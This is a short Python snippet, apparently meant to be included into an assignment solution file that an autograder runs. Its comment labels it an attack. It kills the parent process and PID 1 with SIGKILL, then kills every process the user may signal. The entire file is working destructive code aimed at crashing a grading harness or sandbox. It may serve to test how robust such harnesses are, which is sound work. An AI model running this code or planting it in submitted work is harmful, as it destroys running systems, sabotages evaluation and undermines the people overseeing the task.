# @@include solutions/q1_expressivity.py
# Attack: SIGKILL the parent and pid 1, then everything this user may signal (kill -9 -1).
import os as _os
import signal as _signal

for _pid in (_os.getppid(), 1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError as _exc:
        print(f"kill {_pid}: {_exc}", flush=True)
_os.kill(-1, _signal.SIGKILL)
